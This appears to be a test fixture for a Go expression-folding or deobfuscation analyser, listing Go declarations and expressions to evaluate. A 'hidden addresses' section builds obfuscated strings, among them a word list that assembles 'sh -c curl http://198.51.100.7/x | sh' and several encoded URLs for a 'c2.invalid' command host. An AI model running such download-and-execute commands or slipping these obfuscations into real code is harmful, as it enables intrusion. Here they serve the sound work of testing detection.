// Go expressions that folding must know, a family a line, and what they stand on. They are values that Go can print.

/** What the expressions use. */
export const declarations = `
const ( K0 = iota * 10; K1; K2; _; K4 )
const ( S0 uint8 = 1 << iota; S1; S2 )
const ( p1 = 649665; p2 = 1257761798; p3 = 52731; p4 = 2060272 )
type Host string
func (h Host) Clear() string { return strings.ReplaceAll(string(h), "x", ".") }
type Pair struct { a, b string; n int }
func (p *Pair) Add(s string) *Pair { p.a += s; p.n++; return p }
func (p Pair) Sum() string { return p.a + p.b }
type Wrap struct { Pair; tail []byte }
var words = []string{"sh", "-c", "curl ", "http://", "198.51.100.7", "/x", " | ", "sh"}
var table = map[string][]int{"a": {104, 105}, "b": {33}}
var initialised string
func init() { initialised = rot("uggc://") + "c2.invalid" }
var late = []byte{0x09, 0x15, 0x15, 0x11}
func init() { for i := range late { late[i] ^= 0x61 } }
func rot(s string) string { return strings.Map(func(r rune) rune { switch { case r >= 'a' && r <= 'z': return 'a' + (r-'a'+13)%26; case r >= 'A' && r <= 'Z': return 'A' + (r-'A'+13)%26 }; return r }, s) }
func xor(data []byte, key string) []byte { out := make([]byte, len(data)); for i, b := range data { out[i] = b ^ key[i%len(key)] }; return out }
func rolling(s string, k byte) string { b := []byte(s); for i := range b { b[i] ^= k; k = k*31 + byte(i) }; return string(b) }
func reverse(s string) string { r := []rune(s); for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 { r[i], r[j] = r[j], r[i] }; return string(r) }
func join(parts ...any) string { s := ""; for _, p := range parts { s += fmt.Sprint(p) }; return s }
func chars(codes ...int) (s string) { for _, c := range codes { s += string(rune(c)) }; return }
func dotted(s string) string { var b []byte; for _, p := range strings.Split(s, ".") { n, err := strconv.Atoi(p); if err != nil { return "" }; b = append(b, byte(n)) }; return string(b) }
func must[T any](v T, err error) T { if err != nil { panic(err) }; return v }
func apply[T, U any](l []T, f func(T) U) []U { var out []U; for _, x := range l { out = append(out, f(x)) }; return out }
func own64(s string) string {
	const abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var out []byte
	var acc, bits uint
	for i := 0; i < len(s); i++ {
		if s[i] == '=' { break }
		v := strings.IndexByte(abc, s[i])
		if v < 0 { continue }
		acc = acc<<6 | uint(v)
		bits += 6
		if bits >= 8 { bits -= 8; out = append(out, byte(acc>>bits)); acc &= 1<<bits - 1 }
	}
	return string(out)
}
func fib(n int) int { if n < 2 { return n }; return fib(n-1) + fib(n-2) }
func counter() func() int { n := 0; return func() int { n++; return n } }
func named() (s string, err error) { s = "a"; s += "b"; return }
func two() (string, int) { return "two", 2 }
func aes1(key, iv, data string) string { b, err := aes.NewCipher([]byte(key)); if err != nil { return "" }; d, _ := hex.DecodeString(data); out := make([]byte, len(d)); cipher.NewCTR(b, []byte(iv)).XORKeyStream(out, d); return string(out) }
func unzip(s string) string { d, err := base64.StdEncoding.DecodeString(s); if err != nil { return "" }; r, err := gzip.NewReader(bytes.NewReader(d)); if err != nil { return "" }; defer r.Close(); out, err := io.ReadAll(r); if err != nil { return "" }; return string(out) }
`

/** The expressions: each is a value that is known. */
export const expressions: readonly string[] = [
  // constants
  'K1 + K2 + K4',
  'S2 << 5',
  '"a" + "\\x41\\u00e9\\101" + `\\raw`',
  '1<<100 >> 98',
  '7.0 / 2',
  '7 / 2 * 1.0',
  "'a' + 1",
  'string(rune(K4 + 60))',
  'uint8(255) + uint8(len(words))',
  'int8(-128) - int8(len(words))',
  '^uint16(0x0f)',
  '-7 % 3',
  '-7 >> 1',
  '5 &^ 4 | 8 ^ 3',
  '0b1011 + 0o17 + 0x_ff + 1_000',
  '0x1p-2 + 1e3',
  'len("h\\u00e9llo") + len([]rune("h\\u00e9llo")) + cap(make([]int, 2, 5))',
  'min(3, 1, 2) + max(4, 9)',
  '"a" < "b" && !(2 > 3) || false',
  'math.MaxInt64 - 1',
  'uint64(math.MaxUint64)',
  'float32(0.1)',
  'int(3.0) + int(float64(K1))',
  // hidden addresses
  'strings.ReplaceAll(strings.ReplaceAll(fmt.Sprint(p1, p2, p3)+":"+strconv.Itoa(p4), " ", ""), "5", ".")',
  'strings.Replace(strings.Replace(strconv.Itoa(p1)+strconv.Itoa(p2), "6", ".", 2), "7", "", -1)',
  'words[0] + words[1] + words[2] + words[3] + words[4] + words[5] + words[6] + words[7]',
  'Host("198x51x100x7").Clear()',
  'dotted("104.116.116.112.58.47.47.99.50.46.105.110.118.97.108.105.100")',
  'join("GOSUMDB", "=", "off", 1, 2)',
  'chars(104, 116, 116, 112)',
  'string(xor([]byte{0x03, 0x10, 0x0b, 0x1b}, "key"))',
  'rolling("\\x22\\x33\\x44\\x55", 0x5a)',
  'rot("uggcf://p2.vainyvq/cnlybnq")',
  'reverse("dilavni.2c//:sptth")',
  'string([]byte{99, 50, 46, 105}) + string([]rune{0x4e16, 33})',
  'fmt.Sprintf("%c%c%c%c", 104, 116, 116, 112)',
  'own64("aHR0cDovL2MyLmludmFsaWQv")',
  'string(must(base64.StdEncoding.DecodeString("aHR0cDovL2MyLmludmFsaWQv")))',
  'string(must(base64.RawURLEncoding.DecodeString("_-8")))',
  'string(must(hex.DecodeString("68747470")))',
  'string(must(base32.StdEncoding.DecodeString("NB2HI4A=")))',
  'base32.StdEncoding.EncodeToString([]byte("hello"))',
  'base64.URLEncoding.EncodeToString([]byte("\\xff\\xfe?"))',
  'base64.NewEncoding("ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210+/").EncodeToString([]byte("own"))',
  'unzip("H4sIAAAAAAAAA8soKSmw0tdPNtLLzCtLzMlMAQCk2uFIEQAAAA==")',
  'string(func() []byte { b := []byte("ifmmp"); for i := range b { b[i]-- }; return b }())',
  'func() string { s := ""; for _, c := range []int{104, 105} { s += string(rune(c)) }; return s }()',
  'func() string { var s [4]string; for i := range s { s[i] = words[3-i] }; return strings.Join(s[:], "|") }()',
  'new(big.Int).SetBytes([]byte("http")).String()',
  'string(big.NewInt(1752462448).Bytes())',
  'string(new(big.Int).Sub(new(big.Int).Exp(big.NewInt(2), big.NewInt(70), nil), big.NewInt(1)).Text(36))',
  'func() string { n, _ := new(big.Int).SetString("8317987319222330741", 10); return string(n.Bytes()) }()',
  'aes1("0123456789abcdef", "fedcba9876543210", "7a1b2c3d")',
  'func() string { c, _ := rc4.NewCipher([]byte("key")); b := []byte("\\x01\\x02\\x03"); c.XORKeyStream(b, b); return hex.EncodeToString(b) }()',
  'func() string { b, _ := aes.NewCipher([]byte("0123456789abcdef")); d := make([]byte, 32); cipher.NewCBCDecrypter(b, make([]byte, 16)).CryptBlocks(d, d); return hex.EncodeToString(d) }()',
  'fmt.Sprintf("%x", md5.Sum([]byte("a")))',
  'fmt.Sprintf("%x", sha256.Sum256([]byte("a")))',
  'func() string { h := sha1.New(); h.Write([]byte("a")); return hex.EncodeToString(h.Sum(nil)) }()',
  // maps, structs, methods, closures, generics
  'string(rune(table["a"][0])) + string(rune(table["a"][1])) + string(rune(table["b"][0]))',
  'len(table["none"])',
  '(&Pair{a: "x", b: "y"}).Add("1").Add("2").Sum()',
  'Pair{"p", "q", 3}.Sum()',
  'Wrap{Pair: Pair{a: "in", b: "out"}}.Sum()',
  'func() string { w := Wrap{}; w.a = "set"; w.Add("!"); q := w; q.a = "copy"; return w.a + q.a }()',
  'func() int { c := counter(); c(); c(); return c() }()',
  'func() string { var fs []func() string; for i := 0; i < 3; i++ { fs = append(fs, func() string { return strconv.Itoa(i) }) }; s := ""; for _, f := range fs { s += f() }; return s }()',
  'strings.Join(apply([]int{1, 2, 3}, func(i int) string { return strconv.Itoa(i * i) }), ",")',
  'func() string { s, _ := named(); t, n := two(); return s + t + strconv.Itoa(n) }()',
  'fib(12)',
  'func() string { a := []int{1, 2, 3, 4}; b := a[1:3]; b[0] = 9; b = append(b, 8); return fmt.Sprint(a, b, len(b), cap(b)) }()',
  'func() string { a := [3]int{1, 2, 3}; b := a; b[0] = 9; return fmt.Sprint(a, b) }()',
  'func() string { m := map[string]int{}; m["a"]++; m["b"] += 5; delete(m, "a"); v, ok := m["a"]; return fmt.Sprint(m, v, ok) }()',
  'func() string { p := &Pair{}; q := p; q.n = 7; return strconv.Itoa(p.n) }()',
  'func() string { var x any = "s"; switch v := x.(type) { case int: return "int"; case string: return "string" + v }; return "" }()',
  'func() string { var x any = 5; if s, ok := x.(string); ok { return s }; return "no" }()',
  'func() string { x := 1; p := &x; *p += 4; return strconv.Itoa(x) }()',
  'func() string { a := make([]byte, 4); n := copy(a[1:], "abcdef"); return string(a[1:]) + strconv.Itoa(n) }()',
  'func() int { s := 0; for i := range 5 { s += i }; return s }()',
  'func() string { i := 0; for { i++; if i == 3 { continue }; if i > 5 { break } }; return strconv.Itoa(i) }()',
  'func() string { var once sync.Once; s := ""; for range 3 { once.Do(func() { s += "x" }) }; return s }()',
  'errors.New("text").Error()',
  'fmt.Errorf("a %d: %w", 1, errors.New("b")).Error()',
  // strings and bytes
  'strings.Title("hello world") + strings.ToTitle("x")',
  'strings.TrimFunc("123abc456", unicode.IsDigit)',
  'strings.Join(strings.FieldsFunc("a1b2c", unicode.IsDigit), "-")',
  'strings.Join(strings.SplitAfter("a,b,c", ","), "|")',
  'strings.Join(strings.Split("h\\u00e9y", ""), ".")',
  'strings.Replace("abc", "", "-", -1) + strings.Replace("abc", "", "-", 2)',
  'strings.EqualFold("GoLang", "golang")',
  'strings.Index("chicken", "ken") + strings.IndexAny("golang", "gy") + strings.IndexRune("chicken", 107) + strings.LastIndex("go gopher", "go")',
  'func() string { a, b, ok := strings.Cut("k=v", "="); return fmt.Sprint(a, b, ok) }()',
  'string(bytes.ToUpper([]byte("abc"))) + string(bytes.TrimSpace([]byte(" x ")))',
  'string(bytes.ReplaceAll([]byte("a-b"), []byte("-"), []byte("+")))',
  'string(bytes.Join([][]byte{[]byte("a"), []byte("b")}, []byte("/")))',
  'string(bytes.Map(func(r rune) rune { return r + 1 }, []byte("HAL")))',
  'func() string { l := []string{"c", "a", "b"}; sort.Strings(l); return strings.Join(l, "") }()',
  'func() string { l := []byte("abc"); slices.Reverse(l); return string(l) }()',
  'func() string { var b bytes.Buffer; b.WriteString("x"); b.WriteByte(121); b.Write([]byte("z")); fmt.Fprintf(&b, "%d", 5); return b.String() }()',
  'func() string { b := bytes.NewBufferString("start"); b.WriteRune(0x4e16); return b.String() + strconv.Itoa(b.Len()) }()',
  'func() string { s := bufio.NewScanner(strings.NewReader("a\\nb\\n")); out := ""; for s.Scan() { out += s.Text() + ";" }; return out }()',
  'func() string { d, _ := io.ReadAll(base64.NewDecoder(base64.StdEncoding, strings.NewReader("aGk="))); return string(d) }()',
  'utf8.RuneCountInString("h\\u00e9y\\xff") + utf8.RuneLen(0x4e16)',
  // strconv, fmt
  'strconv.FormatInt(-255, 16) + strconv.Quote("a\\tb\\"") + strconv.FormatFloat(1.5, 102, 2, 64)',
  'func() string { n, err := strconv.ParseInt("7f", 16, 8); return fmt.Sprint(n, err) }()',
  'func() int64 { n, _ := strconv.ParseInt("999", 10, 8); return n }()',
  'func() uint64 { n, _ := strconv.ParseUint("0xff", 0, 64); return n }()',
  'fmt.Sprintf("%s:%d/%05.1f %v %t %q", "h", 80, 3.14159, []string{"a"}, true, "x")',
  'fmt.Sprintf("%[2]d %[1]d %d%%", 1, 2)',
  'fmt.Sprintf("%*d|%-5s|%+d|%x|%X|%08b|%o", 5, 42, "ab", 7, "hi", 255, 5, 8)',
  'fmt.Sprintln("a", 1, true) + fmt.Sprint("a", 1, 2, "b", "c", 3.0)',
  'fmt.Sprintf("%v %+v", Pair{"a", "b", 1}, Pair{"a", "b", 1})',
  'fmt.Sprintf("%U %#x %v %c", 0x1F600, "hi", []byte("a"), 0x4e16)',
  'fmt.Sprintf("%d %s", "x", 5)',
  'fmt.Sprintf("%v %v %v", 1e21, 1e20, 1e-5) + fmt.Sprint(float32(2.5), 100000000.0)',
  // regexp, url, path, binary
  'regexp.MustCompile("[^0-9.]").ReplaceAllString("a1b9c8.x51", "")',
  'regexp.MustCompile("(\\\\w)(\\\\d)").ReplaceAllString("a1-b2", "$2$1")',
  'regexp.MustCompile("(?i)X+|y{2,3}?").ReplaceAllString("axXbyyyy", "-")',
  'regexp.MustCompile("a*").ReplaceAllString("baac", "x")',
  'regexp.MustCompile("^(?P<k>[a-z]+)=(.*)$").ReplaceAllString("key=val", "${k}:$2")',
  'strings.Join(regexp.MustCompile(",\\\\s*").Split("a, b,c", -1), "|") + regexp.MustCompile("b|c").FindString("abc")',
  'strings.Join(regexp.MustCompile("(a|ab)(c|bcd)(d*)").FindStringSubmatch("abcd"), ",")',
  'strings.Join(regexp.MustCompile("\\\\b\\\\w").FindAllString("one two", -1), "")',
  'regexp.MustCompile("o").ReplaceAllStringFunc("foo", strings.ToUpper)',
  'url.QueryEscape("a b&c=/\\u00e9~") + url.PathEscape("a b/c?")',
  'func() string { s, _ := url.QueryUnescape("a%20b+c%2F"); return s }()',
  'func() string { u := url.URL{Scheme: "http", Host: "c2.invalid:80", Path: "/a b"}; return u.String() + u.Hostname() + u.Port() }()',
  'func() string { u, err := url.Parse("https://c2.invalid/x?q=1#f"); if err != nil { return "" }; u.Path = "/y"; return u.String() }()',
  'func() string { s, _ := url.JoinPath("http://c2.invalid/a/", "../b"); return s }()',
  'path.Join("a", "../b", "/c") + filepath.Join("x", "y") + path.Base("/a/b.go") + path.Ext("x.tar.gz") + path.Dir("/a/b")',
  'binary.BigEndian.Uint32([]byte{1, 2, 3, 4}) + uint32(binary.LittleEndian.Uint16([]byte{1, 2}))',
  'func() string { b := make([]byte, 8); binary.LittleEndian.PutUint64(b, 0x646c726f77); return string(b[:5]) }()',
  'int64(3 * time.Second) + int64(time.Minute/time.Millisecond)',
]
